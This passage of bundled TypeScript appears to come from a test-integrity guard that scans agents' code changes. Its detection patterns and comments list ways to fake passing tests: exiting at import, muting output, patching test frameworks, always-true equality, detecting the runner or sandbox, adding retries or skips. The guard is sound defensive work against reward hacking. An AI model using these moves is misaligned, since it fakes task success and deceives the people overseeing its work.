            path: '(test run)',
            kind: 'added-skip',
            detail: `${final.runner} skipped ${f.skipped} ${unit} in the final run, ${b.skipped} in the baseline: the change makes the runner skip ${f.skipped - b.skipped} more`,
        },
    ];
}

;// CONCATENATED MODULE: ./src/verify/integrity/tampering.ts
/**
 * `runner-tamper`: code outside the tests that reaches into the test runner or the process the tests run in. The code
 * under test runs inside the test process, so it can end that process before any test ran (exit 0 at import, in Go's
 * `init()`), mute or forge what the runner writes (the standard streams, their file descriptors), patch the framework
 * (`setattr(unittest.TestCase, 'run', …)`, `sys.modules['pytest']`) or behave differently when a runner is watching
 * (`'pytest' in sys.modules`, `JEST_WORKER_ID`, `testing.Testing()`). Each added line that does so is one finding, with
 * its file and line. Pattern-based like the rest of the guard: a tripwire for these moves, not a proof of intent.
 */


const PY_FRAMEWORK = String.raw `(?:_pytest|pytest|unittest|TestCase|TestResult|TextTestResult|TestLoader|TestSuite|TextTestRunner)`;
/**
 * Python. The framework's names also stand for any alias the file gives them (`import unittest as u`, see aliases).
 * `sys.exit` and `os._exit` are ordinary in a CLI's `main()`: only at import do they end the test process.
 */
function pyRules(framework) {
    return [
        { label: 'exits the process at import', re: /\b(sys\.exit|os\._exit|os\.abort|exit|quit)\s*\(/, atImport: true },
        { label: 'kills the process at import', re: /\bos\.kill\s*\(\s*os\.getpid\(\)/, atImport: true },
        { label: 'exits the process at exit (atexit)', re: /\batexit\.register\s*\(.*\b(_exit|exit)\b/ },
        { label: 'redirects a standard stream', re: /\bsys\.(__)?(stdout|stderr|stdin)(__)?\s*=[^=]/ },
        { label: 'redirects a standard stream', re: /\bsetattr\s*\(\s*sys\s*,\s*['"]_*(stdout|stderr)/ },
        { label: 'redirects a standard file descriptor', re: /\bos\.(dup2|closerange)\s*\(|\bos\.close\s*\(\s*[012]\s*\)/ },
        { label: 'patches the test framework', re: new RegExp(String.raw `\bsetattr\s*\(\s*${framework}\b`) },
        {
            label: 'patches the test framework',
            re: new RegExp(String.raw `\b${framework}(\.\w+)*\.(?!__dict__)\w+\s*(\[[^\]]*\]\s*)?=[^=]`),
        },
        {
            label: "reaches into the test framework's internals",
            re: new RegExp(String.raw `\b${framework}(\.\w+)*\.__dict__|\bvars\s*\(\s*${framework}\b`),
        },
        { label: "reaches into pytest's internals", re: /\b_pytest\b/ },
        {
            label: 'reaches the test framework through sys.modules',
            re: /\bsys\.modules\s*(\[|\.get\s*\(|\.setdefault\s*\(|\.pop\s*\().*['"](_?pytest|unittest)/,
        },
        {
            label: 'checks whether a test runner is running',
            re: /['"](_?pytest|unittest)\S*['"]\s+(not\s+)?in\s+sys\.(modules|argv)/,
        },
        { label: 'checks whether a test runner is running', re: /\bPYTEST_(CURRENT_TEST|VERSION|XDIST\w*)\b|['"]PYTEST_/ },
        { label: 'checks whether a test runner is running', re: /\bsys\.argv\b.*['"]_?(pytest|unittest)/ },
        ...pyHarnessRules,
        ...sandboxRules(PY_HOST, PY_HOME),
        STACK_RULES.py,
    ];
}
/**
 * Reaching pytest's or unittest's machinery from anywhere (issue 54): its plugin manager, a walk of the interpreter's
 * objects that finds its `Config`, a hook or hookwrapper registered outside conftest.py, the framework imported by
 * string, an assertion method replaced. In test files too, except the `gc` walk (a leak test's business).
 */
const pyHarnessRules = [
    { label: "reaches into pytest's plugin manager", re: /\bpluginmanager\b|\bPytestPluginManager\b/, tests: true },
    { label: "walks the interpreter's objects (gc), which reaches the test runner", re: /\bgc\.get_objects\s*\(/ },
    {
        label: "walks the interpreter's objects (gc), which reaches the test runner",
        re: /\bgc\.get_(referrers|referents)\s*\(/,
        inFile: /\b(_?pytest|unittest|pluggy|TestCase|Config)\b/,
    },
    {
        label: 'defines a pytest hook outside conftest.py',
        re: /\bdef\s+pytest_(runtest_\w+|report_\w+|pyfunc_call|terminal_summary|sessionfinish|assertrepr_compare|exception_interact|collection_modifyitems|configure|plugin_registered)\s*\(/,
        tests: true,
        hookFiles: false,
    },
    { label: 'registers a pytest hook wrapper', re: /\bhook(wrapper|impl)\b|\bwrapper\s*=\s*True\b/, tests: true },
    {
        label: 'imports the test framework by name at run time',
        re: /\b(__import__|import_module)\s*\(\s*['"](_?pytest|unittest|pluggy)\b/,
        tests: true,
    },
    {
        label: 'replaces an assertion method',
        re: /\bsetattr\s*\(.*['"](assert[A-Z_]\w*|fail\w*|_outcome|addFailure|addError|addSuccess|_feedErrorsToResult)['"]|\.assert[A-Z]\w*\s*=[^=]/,
        tests: true,
    },
];
// Reading the machine's identity: innocent alone, a defeat device beside a comparison with a name.
const PY_HOST = String.raw `\bsocket\.gethostname\s*\(|\bgethostname\s*\(|\bplatform\.node\s*\(|\buname\s*\(\s*\)(\.nodename|\[1\])`;
const PY_HOME = String.raw `\benviron(\.get\s*\(\s*|\s*\[\s*)['"]HOME['"]|\bgetenv\s*\(\s*['"]HOME['"]|\bexpanduser\s*\(\s*['"]~|\bPath\.home\s*\(`;
const JS_HOST = String.raw `\bhostname\s*\(\s*\)|\benv\.HOSTNAME\b`;
const JS_HOME = String.raw `\bhomedir\s*\(\s*\)|\benv\.HOME\b|\benv\s*\[\s*['"\`]HOME['"\`]`;
const GO_HOST = String.raw `\bos\.Hostname\s*\(`;
const GO_HOME = String.raw `\bos\.UserHomeDir\s*\(|\bos\.(Getenv|LookupEnv)\s*\(\s*"HOME"`;
/** A comparison on the line: `==`, `!=`, `startswith`, `includes`, `in`, a match. */
const COMPARES = String.raw `(==|!=|\.(startswith|endswith|startsWith|endsWith|includes|indexOf|match|test)\s*\(|['"\`]\s+(not\s+)?in\b|strings\.(HasPrefix|HasSuffix|Contains|EqualFold)|re\.(match|search|fullmatch)|regexp\.)`;
/** The sandbox's names as a literal: a comparison with them is a check for the proof's own machine. */
const SANDBOX_NAME = /['"`][^'"`\n]*\b(sandbox|bwrap|bubblewrap|agent-fix|agent_fix)\b[^'"`\n]*['"`]/;
/**
 * Looking at the machine to tell the sandbox from production: its hostname or HOME compared (on the line, or a
 * literal naming the sandbox in the file), PID 1's command line, the mount table, a container's marker file.
 */
function sandboxRules(host, home) {
    const either = (a) => new RegExp(String.raw `(${a}).*${COMPARES}|${COMPARES}.*(${a})`);
    return [
        { label: "compares the machine's hostname (a test of where it runs)", re: either(host) },
        {
            label: "reads the machine's hostname where the sandbox is named",
            re: new RegExp(host),
            inFile: SANDBOX_NAME,
            tests: true,
        },
        { label: 'compares HOME (a test of where it runs)', re: either(home) },
        { label: 'reads HOME where the sandbox is named', re: new RegExp(home), inFile: SANDBOX_NAME, tests: true },
        {
            label: "reads the sandbox's process table or mounts",
            re: /['"`]\/proc\/(1|self|thread-self)\/(cmdline|mountinfo|mounts|cgroup|environ|comm|exe)\b|['"`]\/proc\/1\/|['"`]\/proc\/mounts\b|['"`]\/\.dockerenv\b|['"`]\/run\/\.containerenv\b/,
            tests: true,
        },
    ];
}
/** A caller's name read from the stack, in a file that compares a name with a test's: code right only under test. */
const TEST_NAME_CHECK = /['"`](test|Test|spec|it)[_ .\-\w]*['"`]|['"`][^'"`\n]*(\.test\.|\.spec\.|_test\.go|node:test|jest|vitest|mocha|pytest|unittest|testing\.tRunner)[^'"`\n]*['"`]/;
const STACK_RULES = {
    py: {
        label: "reads its caller's frame to tell a test from production",
        re: /\bsys\._getframe\s*\(|\binspect\.(stack|currentframe|getouterframes|getframeinfo|trace)\s*\(|\bf_back\b|\bco_name\b|\btraceback\.(extract_stack|format_stack|walk_stack)\s*\(/,
        inFile: TEST_NAME_CHECK,
    },
    js: {
        label: 'reads the call stack to tell a test from production',
        re: /\bnew\s+Error\s*\([^)]*\)\s*\.\s*stack\b|\bError\s*\(\s*\)\s*\.\s*stack\b|\bError\.(captureStackTrace|prepareStackTrace)\b|\.stack\b.*\.split\s*\(|\bgetFileName\s*\(|\bgetFunctionName\s*\(/,
        inFile: TEST_NAME_CHECK,
    },
    go: {
        label: 'reads the call stack to tell a test from production',
        re: /\bruntime\.(Caller|Callers|FuncForPC)\s*\(/,
        inFile: TEST_NAME_CHECK,
    },
};
/** JavaScript and TypeScript. `process.exit` in a function is a CLI's business; at the top level it ends the run. */
const JS_RULES = [
    { label: 'exits the process at import', re: /\bprocess\.(exit|abort|reallyExit)\s*\(/, atImport: true },
    { label: 'kills the process at import', re: /\bprocess\.kill\s*\(\s*process\.pid\b/, atImport: true },
    { label: "sets the process's exit code at import", re: /\bprocess\.exitCode\s*=[^=]/, atImport: true },
    {
        label: 'changes how the process exits',
        re: /\bprocess\.(on|once|prependListener)\s*\(\s*['"](exit|beforeExit)['"]/,
    },
    { label: 'redirects a standard stream', re: /\bprocess\.(stdout|stderr)(\.\w+)?\s*=[^=]/ },
    {
        label: 'redirects a standard stream',
        re: /\bObject\.(defineProperty|assign)\s*\(\s*process(\.(stdout|stderr))?\s*,\s*(['"](stdout|stderr|write)['"]|\{)/,
    },
    { label: 'redirects a standard file descriptor', re: /\bfs\.(closeSync|close)\s*\(\s*[12]\s*[,)]/ },
    { label: 'patches the test framework', re: /\b(globalThis|global|window)\.(describe|it|test|expect|suite)\s*=[^=]/ },
    {
        label: 'checks whether a test runner is running',
        // A runner's variable read from the environment (either order: `const { VITEST } = process.env`), not a word.
        re: /\benv\b.*\b(JEST_WORKER_ID|VITEST(_\w+)?|NODE_TEST_CONTEXT|MOCHA_\w+)\b|\b(JEST_WORKER_ID|VITEST(_\w+)?|NODE_TEST_CONTEXT)\b.*\benv\b|__vitest_\w+__/,
    },
    {
        label: 'checks whether a test runner is running',
        re: /\bprocess\.(argv|execArgv)\b.*['"`][^'"`]*(--test\b|\bjest\b|\bvitest\b|\bmocha\b|node:test|\bava\b)/,
    },
    { label: "extends the test runner's matchers", re: /\bexpect\s*\.\s*(extend|addEqualityTesters)\s*\(/ },
    {
        label: "reaches into the test runner's matcher state",
        re: /jest-matchers-object|jest\.asymmetricMatcher|\$\$jest|__vitest_\w+__|\bJEST_MATCHERS_OBJECT\b/,
        tests: true,
    },
    { label: 'an always-equal value (asymmetricMatch answers every comparison)', re: /\basymmetricMatch\b/ },
    {
        label: 'patches the module loader',
        re: /\bModule\._(load|resolveFilename|compile)\s*=[^=]|\brequire\.cache\s*\[[^\]]*\]\s*=[^=]|\brequire\.extensions\b/,
        tests: true,
    },
];
/** Names a JS file binds to an assertion library or test framework: `import a from 'node:assert'`, `require('chai')`. */
const JS_FRAMEWORK_MODULE = String.raw `['"\`](node:)?(assert(\/strict)?|chai|expect|@jest\/globals|@jest\/expect|vitest|node:test|tap|ava|should|power-assert|uvu\/assert)['"\`]`;
function jsFramework(code) {
    const names = new Set(['assert', 'expect', 'chai', 'should']);
    const mod = JS_FRAMEWORK_MODULE;
    const binding = (clause) => {
        for (const part of clause.replace(/[{}*]/g, ',').split(',')) {
            const name = /(?:\bas\s+)?([A-Za-z_$][\w$]*)\s*$/.exec(part.trim())?.[1];
            if (name && name !== 'as')
                names.add(name);
        }
    };
    for (const m of code.matchAll(new RegExp(String.raw `\bimport\s+([^'"\`;]+?)\s+from\s+${mod}`, 'g')))
        binding(m[1]);
    for (const m of code.matchAll(new RegExp(String.raw `\b(?:const|let|var)\s+([^=;]+?)\s*=\s*(?:await\s+import|require)\s*\(\s*${mod}`, 'g')))
        binding(m[1].replace(/:\s*([A-Za-z_$][\w$]*)/g, ' as $1'));
    return [...names];
}
/** Mutating the assertion library by any name the file gives it: `a.strictEqual = …`, `a[k] = …`, `Object.assign(a, …)`. */
function jsHarnessRules(names) {
    const n = names.map((x) => x.replace(/\$/g, '\\$')).join('|');
    return [
        {
            label: 'patches the assertion library',
            re: new RegExp(String.raw `(?<![\w$.])(${n})\s*(\.\s*[\w$]+|\[[^\]]+\])+\s*=(?!=)|\bObject\.(assign|defineProperty|defineProperties|setPrototypeOf)\s*\(\s*(${n})\b|\bReflect\.(set|defineProperty)\s*\(\s*(${n})\b`),
            tests: true,
        },
    ];
}
/** Go. `os.Exit` belongs in `main`; in `init` it ends a test binary before any test ran. */
const GO_RULES = [
    // A panic or log.Fatal at load fails the test binary, which no proof takes for a pass; an exit can end it "ok".
    { label: 'exits the process as the package loads', re: /\b(os\.Exit|syscall\.Exit|unix\.Exit)\s*\(/, atImport: true },
    { label: 'kills the process as the package loads', re: /\b(syscall|unix)\.Kill\s*\(/, atImport: true },
    { label: 'redirects a standard stream', re: /\bos\.(Stdout|Stderr|Stdin)\s*=[^=]/ },
    { label: 'redirects a standard file descriptor', re: /\b(syscall|unix)\.Dup[23]?\s*\(/ },
    {
        label: 'checks whether a test runner is running',
        re: /\btesting\.(Testing|Verbose|Short)\s*\(|flag\.Lookup\s*\(\s*"test\./,
    },
    { label: 'checks whether a test runner is running', re: /\bos\.Args\[0\].*\.test\b/ },
    // A test binary's flags (`-test.v`, `-test.run`) or name (`calc.test`) looked for anywhere in the code.
    { label: 'checks whether a test runner is running', re: /["`]-{1,2}test\.[\w]*["`=]|["`]testing\.tRunner/ },
    ...sandboxRules(GO_HOST, GO_HOME),
    STACK_RULES.go,
];
/** The framework's names in a Python file: its own, and the aliases it imports them under. */
function pyFramework(code) {
    const aliases = [
        ...code.matchAll(new RegExp(String.raw `^\s*import\s+${PY_FRAMEWORK}(?:\.\w+)*\s+as\s+(\w+)`, 'gm')),
        ...code.matchAll(new RegExp(String.raw `^\s*from\s+${PY_FRAMEWORK}(?:\.\w+)*\s+import\s+\w+\s+as\s+(\w+)`, 'gm')),
    ].map((m) => m[1]);
    return aliases.length ? `(?:${PY_FRAMEWORK.slice(3, -1)}|${aliases.join('|')})` : PY_FRAMEWORK;
}
/**
 * Which lines of a Python file run at import: not inside a `def` (a class body runs at import) nor inside
 * `if __name__ == '__main__':`. By indentation, one entry per open block.
 */
function pyImportLines(lines) {
    const open = [];
    let deferred = false;
    return lines.map((line) => {
        if (!line.trim())
            return !deferred;
        const indent = line.length - line.trimStart().length;
        while (open.length && indent <= open[open.length - 1].indent)
            open.pop();
        deferred = open.some((b) => b.deferred);
        const atImport = !deferred;
        const head = line.trim();
        if (/:\s*(#.*)?$/.test(head) &&
            /^(async\s+def|def|class|if|elif|else|for|while|with|try|except|finally)\b/.test(head)) {
            const isDef = /^(async\s+)?def\b/.test(head);
            const isMain = /^if\s+__name__\s*==\s*['"]__main__['"]/.test(head);
            open.push({ indent, deferred: isDef || isMain });
        }
        // A one-line `def f(): sys.exit()` defers its own body too.
        return atImport && !/^(async\s+)?def\b|^if\s+__name__\s*==/.test(head);
    });
}
/** Strings' contents go (a brace in a string is no block), the quotes stay so string patterns still see a literal. */
const blankStrings = (line) => line.replace(/(['"`])(?:\\.|(?!\1).)*\1/g, (s) => s[0] + ' '.repeat(s.length - 2) + s[0]);
/**
 * Where in each line of a JS file code runs at import: not inside a function body, column by column (a one-line
 * `() => { process.exit(0) }` defers its body). A `{` opens a function when what precedes it is `=>`,
 * `function …(…)` or a method head `name(…)`; after `if (…)`, `for (…)`, `else` and the like it is a block.
 */
function jsImportLines(lines) {
    const stack = [];
    return lines.map((raw) => {
        const line = blankStrings(raw);
        const inFunction = [];
        for (let i = 0; i < line.length; i++) {
            inFunction.push(stack.includes(true));
            if (line[i] === '{') {
                const before = line.slice(0, i).trimEnd();
                const block = /\b(if|for|while|switch|catch|with)\s*\(.*\)$/.test(before) || /\b(else|try|finally|do)$/.test(before);
                stack.push(!block && (/=>$/.test(before) || /\)$/.test(before)));
            }
            else if (line[i] === '}')
                stack.pop();
        }
        return (col) => !(inFunction[col] ?? stack.includes(true));
    });
}
/** Each line's start offset in `text`, and the line an offset is on. */
function lineIndex(text) {
    const starts = [0];
    for (let i = 0; i < text.length; i++)
        if (text[i] === '\n')
            starts.push(i + 1);
    return (offset) => {
        let lo = 0;
        let hi = starts.length - 1;
        while (lo < hi) {
            const mid = (lo + hi + 1) >> 1;
            if (starts[mid] <= offset)
                lo = mid;
            else
                hi = mid - 1;
        }
        return lo;
    };
}
/** Where the statement starting at `from` ends: the first newline outside brackets (Go's statements end there). */
function statementEnd(text, from, lang) {
    for (let i = from; i < text.length; i++) {
        const c = text[i];
        if (c === '\n')
            return i;
        if (c === '(' || c === '[' || c === '{') {
            const end = matchBracket(text, i, lang);
            if (end < 0)
                return text.length;
            i = end - 1;
        }
    }
    return text.length;
}
/**
 * Which lines of a Go file run when its package loads: `func init()` bodies, package-level `var` initialisers
 * (`var _ = func() { … }()` runs at load; an uninvoked `var usage = func() { … }` does not), and the bodies of the
 * file's functions that an initialiser or an init calls by name (`var _ = setup()`), one call deep.
 */
function goImportLines(lines) {
    const text = lines.map(blankStrings).join('\n');
    const lineOf = lineIndex(text);
    const out = lines.map(() => false);
    const mark = (from, to, flag = true) => {
        for (let i = lineOf(from); i <= lineOf(Math.max(from, to - 1)); i++)
            out[i] = flag;
    };
    const funcs = new Map();
    for (const m of text.matchAll(/^func\s+(\w+)\s*\([^)]*\)[^{\n]*\{/gm)) {
        const end = matchBracket(text, m.index + m[0].length - 1, 'go');
        const spans = funcs.get(m[1]) ?? [];
        spans.push([m.index, end < 0 ? text.length : end]);
        funcs.set(m[1], spans);
    }
    const loading = [...(funcs.get('init') ?? [])];
    for (const m of text.matchAll(/^var\b/gm))
        loading.push([m.index, statementEnd(text, m.index, 'go')]);
    const called = new Set();
    for (const [from, to] of loading) {
        mark(from, to);
        const region = text.slice(from, to);
        // A function literal that is not called right away runs later, whenever something calls it.
        for (const lit of region.matchAll(/\bfunc\s*\([^)]*\)[^{\n]*\{/g)) {
            const open = from + lit.index + lit[0].length - 1;
            const end = matchBracket(text, open, 'go');
            if (end > 0 && !/^\s*\(/.test(text.slice(end)) && lineOf(open) < lineOf(end - 1))
                for (let i = lineOf(open) + 1; i < lineOf(end - 1); i++)
                    out[i] = false;
        }
        for (const call of region.matchAll(/(?<![\w.])(\w+)\s*\(/g))
            if (call[1] !== 'init')
                called.add(call[1]);
    }
    for (const name of called)
        for (const [from, to] of funcs.get(name) ?? [])
            mark(from, to);
    return out;
}
/** Which lines of a Java, Kotlin or Scala file run in a `static { … }` initialiser (when the class loads). */
function staticBlockLines(lines) {
    const text = lines.map(blankStrings).join('\n');
    const lineOf = lineIndex(text);
    const out = lines.map(() => false);
    for (const m of text.matchAll(/\bstatic\s*\{|\binit\s*\{|\bcompanion\s+object\b[^{\n]*\{/g)) {
        const end = matchBracket(text, m.index + m[0].length - 1, 'jvm');
        for (let i = lineOf(m.index); i <= lineOf(end < 0 ? text.length - 1 : end - 1); i++)
            out[i] = true;
    }
    return out;
}
/** Lines at the file's top level (no indentation): Ruby's and PHP's code outside any `def` or function. */
const topLevelLines = (lines) => lines.map((l) => /^\S/.test(l));
const perLine = (lineWise) => (lines) => lineWise(lines).map((flag) => () => flag);
/** Other languages: what runs before any test does (Ruby's and PHP's top level, a Rust or C++ constructor, a static block). */
const RB_RULES = [
    {
        label: 'exits the process at load',
        re: /^(exit!?|abort|Process\.(exit!?|kill|abort)|Kernel\.(exit!?|abort))\b/,
        atImport: true,
    },
    { label: 'exits the process at exit (at_exit)', re: /\bat_exit\b.*\b(exit!?|Process\.exit!?)\b/ },
    {
        label: 'patches the test framework',
        re: /\b(Minitest|RSpec|Test::Unit)(::\w+)*\.(class_eval|define_method|prepend|send)\b|\b(Minitest|RSpec)::\w+.*\.(alias_method|remove_method)\b/,
        tests: true,
    },
];
const PHP_RULES = [{ label: 'exits the process at load', re: /^(exit|die)\b/, atImport: true }];
const RS_RULES = [
    {
        label: 'runs code before main (a constructor)',
        re: /#\[(ctor::)?(ctor|dtor)\]|link_section\s*=\s*"\.(init_array|ctors)/,
    },
];
const CPP_RULES = [
    {
        label: 'runs code before main (a constructor)',
        re: /__attribute__\s*\(\(\s*constructor|\.init_array|#pragma\s+init\b/,
    },
    {
        label: 'exits the process in a static initialiser',
        re: /^(static|const|int|bool|auto|char|long|unsigned|namespace)\b[^(]*=.*\b(std::)?(_?exit|_Exit|quick_exit|abort)\s*\(/,
    },
];
const JVM_RULES = [
    {
        label: 'exits the process when the class loads',
        re: /\b(System\.exit|Runtime\.getRuntime\s*\(\s*\)\s*\.\s*(halt|exit)|exitProcess)\s*\(/,
        atImport: true,
    },
];
function rulesOf(lang, code) {
    if (lang === 'py')
        return { rules: pyRules(pyFramework(code)), atImport: perLine(pyImportLines) };
    if (lang === 'js')
        return {
            rules: [...JS_RULES, ...jsHarnessRules(jsFramework(code)), ...sandboxRules(JS_HOST, JS_HOME), STACK_RULES.js],
            atImport: jsImportLines,
        };
    if (lang === 'go')
        return { rules: GO_RULES, atImport: perLine(goImportLines) };
    if (lang === 'rb')
        return { rules: RB_RULES, atImport: perLine(topLevelLines) };
    if (lang === 'php')
        return { rules: PHP_RULES, atImport: perLine(topLevelLines) };
    if (lang === 'rs')
        return { rules: RS_RULES, atImport: perLine(topLevelLines) };
    if (lang === 'cpp')
        return { rules: CPP_RULES, atImport: perLine(topLevelLines) };
    if (lang === 'jvm')
        return { rules: JVM_RULES, atImport: perLine(staticBlockLines) };
    return null;
}
/**
 * Lines that define an equality that holds for anything: a Python `__eq__` whose only statement is `return True`
 * (or `__ne__` returning False, `__eq__ = lambda *a: True`), an `equals`/`Equal`/`isEqual` method whose body is
 * `return true`. An `int` subclass with such an `__eq__` makes `assert f() == 5` pass whatever `f` computes.
 */
function alwaysEqualLines(lines, lang) {
    const out = [];
    if (lang === 'py') {
        lines.forEach((line, i) => {
            if (/\b__eq__\s*=\s*lambda[^:]*:\s*(True|1)\b|\b__ne__\s*=\s*lambda[^:]*:\s*(False|0)\b/.test(line))
                out.push(i);
            const def = /^(\s*)def\s+(__eq__|__ne__)\s*\([^)]*\)\s*(->\s*[\w.]+\s*)?:(.*)$/.exec(line);
            if (!def)
                return;
            const indent = def[1].length;
            const body = def[4].trim() ? [def[4].trim()] : [];
            for (let j = i + 1; !body.length || j < lines.length; j++) {
                if (j >= lines.length)
                    break;
                const l = lines[j];
                if (!l.trim())
                    continue;
                if (l.length - l.trimStart().length <= indent)
                    break;
                body.push(l.trim());
            }
            const statements = body.filter((b) => b !== 'pass' && !/^(r|u)?('''|"""|'|")/.test(b));
            const answer = def[2] === '__eq__' ? /^return\s+(True|1|not\s+False)\s*$/ : /^return\s+(False|0|not\s+True)\s*$/;
            if (statements.length === 1 && answer.test(statements[0]))
                out.push(i);
        });
        return out;
    }
    if (!['js', 'go', 'jvm', 'rs', 'cpp', 'php', 'rb'].includes(lang))
        return out;
    const text = lines.join('\n');
    const lineOf = lineIndex(text);
    // A declaration, not a call site (`if a.Equal(b) { return true }`): Go's `func (r T) Equal(`, a method head at the
    // start of a line (`public boolean equals(`, `equals(o) {`), C++'s `operator==`, Ruby's `def ==`.
    const re = /(\bfunc\s*\([^)]*\)\s*(Equal|Equals)|^[ \t]*(?:(?:public|final|override|static|async)\s+)*(?:boolean\s+|bool\s+|fun\s+)?(equals|isEqual|asymmetricMatch)|\boperator\s*==)\s*\([^)]*\)[^{;\n]*\{\s*return\s+true\s*;?\s*\}|\bdef\s+==\s*\(?[^)\n]*\)?\s*\n?\s*true\s*\n\s*end\b/gm;
    for (const m of text.matchAll(re))
        out.push(lineOf(m.index));
    return out;
}
/** The rules a file's lines break: `label` per line number (1-based), at most one label a line. */
function breaches(text, lang, testFile = false, hookFile = false) {
    const code = stripComments(text, lang);
    const read = rulesOf(lang, code);
    const out = new Map();
    if (!read)
        return out;
    // A Python line's trailing comment is no code; a JS/Go `//` one neither.
    const lines = code
        .split('\n')
        .map((l) => (lang === 'py' || lang === 'rb' ? l.replace(/\s+#[^'"]*$/, '') : l.replace(/\s+\/\/[^'"`]*$/, '')));
    const whole = lines.join('\n');
    const rules = read.rules.filter((r) => (!testFile || r.tests) && (!hookFile || r.hookFiles !== false) && (!r.inFile || r.inFile.test(whole)));
    const atImport = read.atImport(lines);
    lines.forEach((line, i) => {
        const rule = rules.find((r) => {
            const m = r.re.exec(line);
            return m !== null && (!r.atImport || atImport[i](m.index));
        });
        if (rule)
            out.set(i + 1, { label: rule.label, text: line.trim() });
    });
    if (!testFile)
        for (const i of alwaysEqualLines(lines, lang))
            if (!out.has(i + 1))
                out.set(i + 1, {
                    label: 'defines an equality that holds for anything (an always-equal value passes any assertion)',
                    text: lines[i].trim(),
                });
    return out;
}
/**
 * Lines a change adds that reach into the runner or the process: every rule outside test files, in test files the
 * rules no test needs (the runner's plugin manager, its hooks outside conftest.py, the assertion library patched, the
 * sandbox looked at). A line already there before (the same text breaking the same rule) is not the change's doing;
 * a moved line is not either.
 */
function tamperFindings(change) {
    const { path: p, before, after } = change;
    if (after === null)
        return [];
    const norm = normalize(p);
    const lang = langOf(norm);
    if (!lang)
        return [];
    const testFile = isTestPath(norm);
    const hookFile = runners/* PROFILES */.jI.some((r) => r.lang === lang && r.hookFile(norm) && r.name === 'pytest');
    const known = new Set([...(before === null ? new Map() : breaches(before, lang, testFile, hookFile)).values()].map((b) => `${b.label}\0${b.text}`));
    return [...breaches(after, lang, testFile, hookFile)]
        .filter(([, b]) => !known.has(`${b.label}\0${b.text}`))
        .map(([line, b]) => ({
        path: p,
        kind: 'runner-tamper',
        line,
        detail: `${p}:${line}: ${b.label} (\`${b.text.length > 80 ? `${b.text.slice(0, 77)}...` : b.text}\`)`,
    }));
}

;// CONCATENATED MODULE: ./src/verify/integrity/deflake.ts
/** What adds a retry, by runner. Counted before and after: only a change that adds one is a finding. */
const RETRIES = [
    ['pytest flaky marker', /@(?:pytest\.mark\.)?flaky\b|\bpytest\.mark\.flaky\b/g],
    ['pytest-rerunfailures', /--reruns\b|\breruns\s*=|\bpytest_rerunfailures\b|\brerunfailures\b/g],
    ['jest.retryTimes', /\bjest\s*\.\s*retryTimes\s*\(/g],
    ['vitest retry', /\bretry\s*:\s*\d+|\.retry\s*\(\s*\d+/g],
    ['mocha retries', /\bthis\s*\.\s*retries\s*\(|\bretries\s*:\s*\d+|--retries\b/g],
    ['a retry loop decorator', /@retry\b|\btenacity\b|\bbackoff\.on_exception\b/g],
    ['go test -count with retries', /\bgotestsum\b.*--rerun-fails|--rerun-fails\b/g],
    // A loop that runs the check again until it passes catches the failed assertion to go round (and a caught one that
    // is not re-raised at once hides the failure as well): either way the flaky check no longer fails the test.
    [
        'an assertion failure caught (a retry loop)',
        /\bexcept\s*\(?[\w.,\s]*\bAssertionError\b|\binstanceof\s+(?:assert\.)?AssertionError\b/g,
    ],
];
/** A timeout: the words and numbers a runner reads one from. */
const TIMEOUT = /timeout|TIMEOUT|Timeout|deadline|setTimeout|\btime\.sleep\s*\(|\bsleep\s*\(/;
/** An import line: Python's `import x` / `from x import y`, JS's `import … from` / `const x = require(…)`, Go's `import "x"`. */
const IMPORT = /^(?:import\s|from\s+\S+\s+import\s|(?:const|let|var)\s+[\w{}\s,]+=\s*require\s*\()/;
const count = (text, re) => (text.match(re) ?? []).length;
/** Lines only in one side, as multisets (a moved line is no change). */
function deflake_changedLines(before, after) {
    const norm = (t) => t
        .split('\n')
        .map((l) => l.trim())
        .filter(Boolean);
    const left = new Map();
    for (const l of norm(before))
        left.set(l, (left.get(l) ?? 0) + 1);
    const added = [];
    for (const l of norm(after)) {
        const n = left.get(l) ?? 0;
        if (n > 0)
            left.set(l, n - 1);
        else
            added.push(l);
    }
    const removed = [...left].flatMap(([l, n]) => Array.from({ length: n }, () => l));
    return { added, removed };
}
/**
 * The deflake findings of a change: `changes` its files' text before and after, `findings` the integrity guard's
 * others (a skip or a removed assertion is read by the guard's own rules and named again as a deflake's).
 */
function deflakeFindings(changes, findings) {
    const out = [];
    for (const c of changes) {
        const before = c.before ?? '';
        const after = c.after ?? '';
        const gained = RETRIES.filter(([, re]) => count(after, re) > count(before, re)).map(([label]) => label);
        if (gained.length)
            out.push({
                path: c.path,
                kind: 'deflake-retry',
                detail: `${c.path}: adds a retry (${gained.join(', ')}); a retried flaky test still fails, it is only run again until it passes`,
            });
    }
    for (const f of findings) {
        if (f.kind === 'added-skip')
            out.push({
                path: f.path,
                kind: 'deflake-skip',
                detail: `${f.detail}; a skipped flaky test is hidden, not fixed`,
            });
        if (f.kind === 'fewer-assertions' || f.kind === 'deleted-test-case' || f.kind === 'deleted-test-file')
            out.push({
                path: f.path,
                kind: 'deflake-assertion-removed',
                detail: `${f.detail}; a flaky check removed is no deterministic test`,
            });
    }
    const lines = changes.map((c) => deflake_changedLines(c.before ?? '', c.after ?? ''));
    // Comments and imports change no behaviour: a timeout marker or a sleep needs its module imported beside it.
    const all = lines.flatMap((l) => [...l.added, ...l.removed]).filter((l) => !/^(#|\/\/)/.test(l) && !IMPORT.test(l));
    if (all.some((l) => TIMEOUT.test(l)) && all.every((l) => TIMEOUT.test(l)))
        out.push({
            path: changes[0].path,
            kind: 'deflake-timeout-only',
            detail: `${changes.map((c) => c.path).join(', ')}: the change only raises timeouts or waits (${all.length} changed line(s)); a slower flake is still a flake`,
        });
    return out;
}

;// CONCATENATED MODULE: ./src/verify/integrity.ts
/**
 * The test-integrity guard: an agent can turn a run green by weakening the tests instead of fixing the code. This
 * finds the usual ways in a change, one file per finding kind in `integrity/`: deleted test files or cases (a test
 * moved to a path its runner does not collect is deleted; `cases.ts`), added skip/only/todo/xfail markers
 * (`skips.ts`), fewer or edited assertions (`assertions.ts`), configuration that deselects tests or changes how they
 * are judged (`config.ts`), hooks that rewrite results (`hooks.ts`), code outside the tests that reaches into the runner
 * or the process (`tampering.ts`), rewritten snapshots (here). What is a test, a
 * runner's configuration, a skip or an assertion comes from the runner profiles (src/verify/runners/). Pure: file
 * texts in, findings out. New tests and new assertions are never findings.
 *
 * It reads source text with patterns, not parsers: it is a tripwire for the common moves, not a proof of intent.
 * Known blind spots: expected values kept outside the test body (Go table rows, constants), `test.each` tables.
 * What patterns cannot see, the runner's own reports can: `reportedSkipFindings` compares the skips of the baseline
